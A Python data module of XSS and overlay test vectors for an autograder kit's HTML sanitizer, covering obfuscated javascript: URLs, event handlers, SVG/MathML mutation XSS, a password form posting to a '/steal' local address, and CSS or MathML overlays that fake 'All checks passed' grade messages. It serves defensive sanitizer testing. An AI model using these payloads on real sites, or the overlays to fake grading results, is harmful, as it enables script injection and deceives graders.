"""XSS and overlay vectors for the kit's HTML sanitizer (``autograder.safe_html.clean``), as data.

Written for this kit after the classes of the well-known public lists (OWASP's XSS Filter Evasion Cheat Sheet,
DOMPurify's test fixtures, PortSwigger's XSS cheat sheet): event handlers on every kind of element; ``javascript:``,
``vbscript:`` and ``data:text/html`` URLs hidden by entities, whitespace and case; elements that run or load
(``<script>``, ``<iframe srcdoc>``, ``<object>``, ``<embed>``, ``<base>``, ``<meta>``, ``<link>``, ``<form>``);
namespace confusion and mutation XSS through ``<svg>``, ``<math>``, ``<noscript>``, ``<template>``, comments and
CDATA; CSS; and markup that would lay a student's content over the page (fixed positioning, the pages' own
positioned classes and ids, MathML that paints outside its box). ``tests/test_sanitizer_corpus.py`` runs them.
"""

from __future__ import annotations

from typing import NamedTuple

PAYLOAD = "alert(1)"


class Vector(NamedTuple):
    """One case: a short unique id and the hostile HTML."""

    id: str
    html: str


def _handlers() -> list[Vector]:
    """An event handler on each kind of element that fires one without a click, or with one."""
    on = {
        "img-onerror": "<img src=x onerror={p}>",
        "img-onload": '<img src="data:image/png;base64,iVBORw0KGgo=" onload={p}>',
        "image-onerror": "<image src=x onerror={p}>",
        "body-onload": "<body onload={p}>",
        "body-onpageshow": "<body onpageshow={p}>",
        "svg-onload": "<svg onload={p}>",
        "svg-animate-onbegin": "<svg><animate onbegin={p} attributeName=x dur=1s>",
        "svg-set-onbegin": "<svg><set onbegin={p} attributeName=x to=1>",
        "math-onclick": "<math onclick={p}><mi>x</mi></math>",
        "mi-onmouseover": "<math><mi onmouseover={p}>x</mi></math>",
        "details-ontoggle": "<details open ontoggle={p}><summary>s</summary></details>",
        "div-onmouseover": "<div onmouseover={p}>hover</div>",
        "p-onpointerenter": "<p onpointerenter={p}>x</p>",
        "a-onfocus-autofocus": "<a href=#x id=x tabindex=1 autofocus onfocus={p}>x</a>",
        "input-autofocus": "<input autofocus onfocus={p}>",
        "textarea-onfocus": "<textarea autofocus onfocus={p}></textarea>",
        "select-onfocus": "<select autofocus onfocus={p}></select>",
        "button-onclick": "<button onclick={p}>b</button>",
        "video-onerror": "<video><source onerror={p}></video>",
        "audio-onerror": "<audio src=x onerror={p}>",
        "video-poster": "<video poster=javascript:{p}//></video>",
        "marquee-onstart": "<marquee onstart={p}>m</marquee>",
        "table-onanimationstart": "<table onanimationstart={p}><tr><td>t</td></tr></table>",
        "td-onmouseover": "<table><tr><td onmouseover={p}>t</td></tr></table>",
        "span-onfocusin": "<span tabindex=0 onfocusin={p}>x</span>",
        "div-onscroll": "<div style=overflow:auto;height:1px onscroll={p}><br><br></div>",
        "div-onwheel": "<div onwheel={p}>x</div>",
        "popover-onbeforetoggle": "<div popover id=x onbeforetoggle={p}>x</div>",
        "iframe-onload": "<iframe onload={p}></iframe>",
        "object-onerror": "<object data=x onerror={p}></object>",
        "frameset-onload": "<frameset onload={p}>",
        "style-onload": "<style onload={p}></style>",
        "link-onload": "<link rel=stylesheet href=data:, onload={p}>",
        "form-onsubmit": "<form onsubmit={p}><button>go</button></form>",
        "keygen-onfocus": "<keygen autofocus onfocus={p}>",
        "xss-custom-element": "<xss onfocus={p} autofocus tabindex=1>x</xss>",
        "upper-case-handler": "<IMG SRC=x ONERROR={p}>",
        "mixed-case-handler": "<iMg sRc=x OnErRoR={p}>",
        "slash-separator": "<img/src=x/onerror={p}>",
        "newline-separator": "<img\nsrc=x\nonerror={p}>",
        "formfeed-separator": "<img\x0csrc=x\x0conerror={p}>",
        "quoted-backtick": "<img src=x onerror=`{p}`>",
        "entity-in-handler": "<img src=x onerror=&#97;lert(1)>",
        "handler-on-kit-math": "<math><mfrac onclick={p}><mn>1</mn><mn>2</mn></mfrac></math>",
        "handler-on-mtext-img": "<math><mtext><img src=x onerror={p}></mtext></math>",
    }
    return [Vector(f"handler-{name}", html.format(p=PAYLOAD)) for name, html in on.items()]


def _urls() -> list[Vector]:
    """Script URLs in every attribute that navigates or loads, hidden from a naive check."""
    js = {
        "plain": "javascript:alert(1)",
        "upper": "JAVASCRIPT:alert(1)",
        "mixed": "JaVaScRiPt:alert(1)",
        "leading-space": "  javascript:alert(1)",
        "leading-control": "\x01javascript:alert(1)",
        "tab": "jav\tascript:alert(1)",
        "newline": "java\nscript:alert(1)",
        "carriage-return": "java\rscript:alert(1)",
        "entity-tab": "jav&#x09;ascript:alert(1)",
        "entity-newline": "jav&#x0A;ascript:alert(1)",
        "named-tab": "jav&Tab;ascript:alert(1)",
        "decimal": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "decimal-padded": "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
        "&#0000116&#0000058alert(1)",
        "hex": "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "colon-entity": "javascript&colon;alert(1)",
        "vbscript": "vbscript:msgbox(1)",
        "livescript": "livescript:alert(1)",
        "data-html": "data:text/html,<script>alert(1)</script>",
        "data-html-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data-upper": "DATA:text/html,<script>alert(1)</script>",
        "data-svg-link": "data:image/svg+xml,<svg onload=alert(1)>",
    }
    found = [Vector(f"a-href-{name}", f'<a href="{url}">x</a>') for name, url in js.items()]
    found += [
        Vector("a-href-unquoted", "<a href=javascript:alert(1)>x</a>"),
        Vector("a-href-protocol-relative", '<a href="//example.org/">x</a>'),
        Vector("a-href-relative", '<a href="notes.html">x</a>'),
        Vector("a-href-file", '<a href="file:///etc/passwd">x</a>'),
        Vector("area-href", '<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>'),
        Vector("img-src-javascript", '<img src="javascript:alert(1)">'),
        Vector("img-src-remote", '<img src="http://127.0.0.1:9/x.png">'),
        Vector("img-src-relative", '<img src="x.png">'),
        Vector("img-src-data-html", '<img src="data:text/html,<script>alert(1)</script>">'),
        Vector("img-srcset-remote", '<img src="data:image/png;base64,AA" srcset="http://127.0.0.1:9/y.png 2x">'),
        Vector("img-lowsrc-dynsrc", "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>"),
        Vector("input-image-src", '<input type="image" src="javascript:alert(1)">'),
        Vector("table-background", '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>'),
        Vector("body-background", '<body background="javascript:alert(1)">'),
        Vector("blockquote-cite", '<blockquote cite="javascript:alert(1)">q</blockquote>'),
        Vector("q-cite-data", '<q cite="data:text/html,<script>alert(1)</script>">q</q>'),
        Vector("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
        Vector("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
        Vector("isindex-action", '<isindex action="javascript:alert(1)" type=image>'),
        Vector("a-ping", '<a href="#x" ping="http://127.0.0.1:9/ping">x</a>'),
        Vector("data-element-value", '<data value="javascript:alert(1)">d</data>'),
    ]
    return found


def _elements() -> list[Vector]:
    """Elements that run, load, navigate or restyle the page."""
    return [
        Vector("script", "<script>alert(1)</script>"),
        Vector("script-src", '<script src="http://127.0.0.1:9/x.js"></script>'),
        Vector("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
        Vector("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        Vector("script-unclosed", "<script>alert(1)"),
        Vector("script-attribute-gt", '<script a=">" src="http://127.0.0.1:9/x.js"></script>'),
        Vector("script-self-closing", '<script src="http://127.0.0.1:9/x.js"/>'),
        Vector("script-in-attribute-text", '<p title="<script>alert(1)</script>">a</p>'),
        Vector("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
        Vector("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
        Vector("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
        Vector("object-data", '<object data="javascript:alert(1)"></object>'),
        Vector(
            "object-data-html", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'
        ),
        Vector("object-param", '<object><param name="src" value="javascript:alert(1)"></object>'),
        Vector("embed-src", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
        Vector("applet", '<applet code="x.class" codebase="http://127.0.0.1:9/"></applet>'),
        Vector("base-href", '<base href="http://127.0.0.1:9/"><a href="#x">x</a>'),
        Vector("base-target", '<base target="_blank">'),
        Vector("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
        Vector(
            "meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">'
        ),
        Vector(
            "meta-csp-override", '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'
        ),
        Vector("meta-set-cookie", '<meta http-equiv="Set-Cookie" content="x=1">'),
        Vector("link-stylesheet", '<link rel="stylesheet" href="http://127.0.0.1:9/x.css">'),
        Vector("link-import", '<link rel="import" href="http://127.0.0.1:9/x.html">'),
        Vector("link-prefetch", '<link rel="prefetch" href="http://127.0.0.1:9/x">'),
        Vector("form-input", '<form action="http://127.0.0.1:9/steal"><input name="password"></form>'),
        Vector("form-nested-math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
        Vector("portal", '<portal src="http://127.0.0.1:9/"></portal>'),
        Vector("template", "<template><img src=x onerror=alert(1)></template>"),
        Vector(
            "template-shadowroot", '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>'
        ),
        Vector("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
        Vector("noembed", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
        Vector("noframes", '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>'),
        Vector("xmp", '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
        Vector("textarea-escape", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
        Vector("title-escape", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
        Vector("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
        Vector("iframe-escape", '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
        Vector("xml-namespace-script", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
        Vector("html-import-element", "<html><head><script>alert(1)</script></head></html>"),
        Vector("dialog-open", "<dialog open>You passed every check.</dialog>"),
        Vector("button-popovertarget", '<button popovertarget="x">b</button><div popover id="x">p</div>'),
    ]


def _css() -> list[Vector]:
    """CSS that runs script (old engines), loads, or lays content over the page."""
    return [
        Vector("style-expression", '<div style="width: expression(alert(1))">x</div>'),
        Vector("style-expression-escaped", '<div style="w\\idth: ex/**/pression(alert(1))">x</div>'),
        Vector("style-url-javascript", "<div style=\"background-image: url('javascript:alert(1)')\">x</div>"),
        Vector("style-url-remote", '<p style="background: url(http://127.0.0.1:9/x.png)">x</p>'),
        Vector("style-behavior", '<div style="behavior: url(x.htc)">x</div>'),
        Vector("style-moz-binding", '<div style="-moz-binding: url(http://127.0.0.1:9/x.xml#xss)">x</div>'),
        Vector("style-import", '<style>@import "http://127.0.0.1:9/x.css";</style>'),
        Vector("style-element-body", "<style>body { display: none }</style>"),
        Vector(
            "style-fixed-overlay", '<div style="position: fixed; inset: 0; z-index: 99999; background: #fff">ok</div>'
        ),
        Vector("style-absolute-top", '<div style="position:absolute;top:0;left:0;width:100%">All checks passed</div>'),
        Vector("style-negative-margin", '<div style="margin-top: -10000px">All checks passed</div>'),
        Vector("style-transform", '<div style="transform: translateY(-100vh)">All checks passed</div>'),
        Vector("style-on-svg", '<svg style="position:fixed;top:0;left:0;width:100vw;height:100vh"></svg>'),
        Vector("style-on-math", '<math style="position:fixed;top:0"><mi>x</mi></math>'),
        Vector("style-upper-case", '<div STYLE="position:fixed">x</div>'),
        Vector("class-kit-summary", '<div class="kit-failed-summary kit-all-passed">Every check passed.</div>'),
        Vector("class-kit-upper", '<div class="KIT-failed-summary">Every check passed.</div>'),
        Vector("class-navbar-fixed-top", '<div class="navbar-fixed-top alert alert-success">Every check passed.</div>'),
        Vector("class-modal-backdrop", '<div class="modal-backdrop">x</div>'),
        Vector("class-affix", '<div class="affix" style="top:0">x</div>'),
        Vector("class-on-math", '<math class="navbar-fixed-top"><mi>x</mi></math>'),
        Vector("id-statusmessage", '<div id="statusmessage">Grade saved: 100/100</div>'),
    ]


def _foreign() -> list[Vector]:
    """SVG and MathML: namespace confusion, mutation XSS, links and animation of links."""
    return [
        Vector("svg-script", "<svg><script>alert(1)</script></svg>"),
        Vector("svg-script-href", '<svg><script href="data:,alert(1)"/></svg>'),
        Vector("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
        Vector("svg-style-cdata", "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>"),
        Vector("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>'),
        Vector("svg-a-href", '<svg><a href="javascript:alert(1)"><rect width=9 height=9 /></a></svg>'),
        Vector("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
        Vector("svg-image-remote", '<svg><image href="http://127.0.0.1:9/x.png"/></svg>'),
        Vector(
            "svg-animate-href",
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
        ),
        Vector(
            "svg-set-href", '<svg><a><set attributeName=href to="javascript:alert(1)"/><text y=9>x</text></a></svg>'
        ),
        Vector(
            "svg-animate-xlink", '<svg><a><animate attributeName="xlink:href" values="javascript:alert(1)"/></a></svg>'
        ),
        Vector(
            "svg-foreignobject",
            '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
        ),
        Vector("svg-desc-img", "<svg><desc><img src=x onerror=alert(1)></desc></svg>"),
        Vector("svg-title-style", "<svg></p><title><style></title><img src=x onerror=alert(1)></style></svg>"),
        Vector("svg-p-style-mutation", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
        Vector("svg-handler-xmlns", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        Vector(
            "svg-fixed-rect",
            '<svg width="100%" height="100%" style="position:fixed"><rect width=9999 height=9999 /></svg>',
        ),
        Vector("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        Vector(
            "math-mglyph-style-closed",
            "<math><mtext><table><mglyph><style><!--</style>"
            '<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
        ),
        Vector(
            "math-mtext-h1-mglyph",
            "<math><mtext><h1><a><h6></a></h6>"
            '<mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
        ),
        Vector(
            "math-annotation-xml-html",
            '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
        ),
        Vector(
            "math-annotation-xml-svg",
            '<math><annotation-xml encoding="application/xhtml+xml">'
            "<style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        ),
        Vector(
            "math-semantics-style",
            '<math><semantics><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)>',
        ),
        Vector("math-href", '<math href="javascript:alert(1)"><mi>click</mi></math>'),
        Vector("math-mi-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
        Vector(
            "math-maction",
            '<math><maction actiontype="statusline#http://127.0.0.1:9/"'
            ' xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>',
        ),
        Vector("math-mglyph-src", '<math><mglyph src="http://127.0.0.1:9/x.png"/></math>'),
        Vector("math-cdata", "<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>"),
        Vector("math-style-mutation", "<math><style><img src=x onerror=alert(1)></style></math>"),
        Vector("math-mtext-script", "<math><mtext><script>alert(1)</script></mtext></math>"),
        Vector("math-mi-svg-namespace", "<math><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></math>"),
        Vector("table-caption-svg-mtext", "<table><caption><svg><mtext><img src=x onerror=alert(1)>"),
        Vector(
            "select-template-style",
            '<select><template><style><!--</style><a rel="--></style></template>'
            '</select><img src=x onerror=alert(1)>">',
        ),
        Vector(
            "form-math-mtext-mutation",
            '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
        ),
    ]


def _markup() -> list[Vector]:
    """Comments, CDATA, processing instructions, broken and unclosed markup."""
    return [
        Vector("comment-hides-script", "<!--<img src=x onerror=alert(1)>-->"),
        Vector("comment-conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
        Vector("comment-bad-close", "<!-- --!><img src=x onerror=alert(1)> -->"),
        Vector("comment-dashes", "<!--><img src=x onerror=alert(1)>-->"),
        Vector("comment-in-attribute", '<a title="<!--"><img src=x onerror=alert(1)>-->">x</a>'),
        Vector("cdata-html", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
        Vector("processing-instruction", '<?xml version="1.0"?><?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?>'),
        Vector("doctype-entity", '<!DOCTYPE x [<!ENTITY e "<img src=x onerror=alert(1)>">]>&e;'),
        Vector("unclosed-img", "<img src=x onerror=alert(1)//"),
        Vector("unclosed-attribute", '<img src="x onerror=alert(1)//>'),
        Vector("double-open", "<<img src=x onerror=alert(1)//<"),
        Vector("null-byte-tag", "<scr\x00ipt>alert(1)</script>"),
        Vector("null-byte-handler", "<img src=x on\x00error=alert(1)>"),
        Vector("end-tag-attributes", "</p onmouseover=alert(1)>x"),
        Vector("fake-end-in-attribute", '<p title="</p><script>alert(1)</script>">x</p>'),
        Vector("nested-a-mutation", "<a><table><a href=javascript:alert(1)>x</a></table></a>"),
        Vector("unknown-namespace-prefix", '<xss:x xmlns:xss="urn:x" onclick="alert(1)">x</xss:x>'),
        Vector("encoded-utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        Vector("entity-lt-text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        Vector("double-encoded-entity", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
        Vector("body-tag-mid-fragment", "<p>x</p><body onload=alert(1)><p>y</p>"),
    ]


def _mathml_layout() -> list[Vector]:
    """MathML that would paint outside its box, or enlarge itself over the page."""
    return [
        Vector("mpadded-voffset", '<math><mpadded voffset="10000px"><mtext>All checks passed</mtext></mpadded></math>'),
        Vector(
            "mpadded-zero-box", '<math><mpadded width="0" height="0" depth="0"><mspace width="1em"/></mpadded></math>'
        ),
        Vector("mpadded-lspace", '<math><mpadded lspace="-100000px" width="0px"><mtext>x</mtext></mpadded></math>'),
        Vector(
            "mpadded-percent", '<math><mpadded width="+1000%" height="-100%" voffset="-9em"><mi>x</mi></mpadded></math>'
        ),
        Vector(
            "mspace-cover",
            '<math><mspace width="3000px" height="3000px" depth="3000px" mathbackground="white"/></math>',
        ),
        Vector("mspace-huge-em", '<math><mspace width="100000em"/></math>'),
        Vector("mspace-negative", '<math><mi>a</mi><mspace width="-100000px"/><mi>b</mi></math>'),
        Vector("mathbackground", '<math mathbackground="#fff"><mi>x</mi></math>'),
        Vector("mathsize-huge", '<math><mstyle mathsize="100000%"><mi>&#x2588;</mi></mstyle></math>'),
        Vector(
            "mathsize-compounding",
            "<math>" + '<mstyle mathsize="2em">' * 30 + "<mi>x</mi>" + "</mstyle>" * 30 + "</math>",
        ),
        Vector("scriptlevel-negative", '<math><mstyle scriptlevel="-50"><mi>x</mi></mstyle></math>'),
        Vector("mo-minsize-huge", '<math><mo stretchy="true" minsize="100000em">(</mo></math>'),
        Vector("mo-negative-lspace", '<math><mi>a</mi><mo lspace="-1000em" rspace="-1000em">+</mo></math>'),
        Vector("mfrac-linethickness-huge", '<math><mfrac linethickness="10000px"><mn>1</mn><mn>2</mn></mfrac></math>'),
        Vector(
            "mtable-width",
            '<math><mtable width="100000px" columnspacing="1000em"><mtr><mtd><mi>x</mi></mtd></mtr></mtable></math>',
        ),
        Vector(
            "mtd-height",
            '<math><mtable><mtr><mtd height="10000px" depth="10000px"><mi>x</mi></mtd></mtr></mtable></math>',
        ),
        Vector(
            "menclose-mathbackground",
            '<math><menclose notation="box" mathbackground="black" width="9999px"><mi>x</mi></menclose></math>',
        ),
    ]


VECTORS: list[Vector] = [*_handlers(), *_urls(), *_elements(), *_css(), *_foreign(), *_markup(), *_mathml_layout()]
"""Every vector, each id unique."""
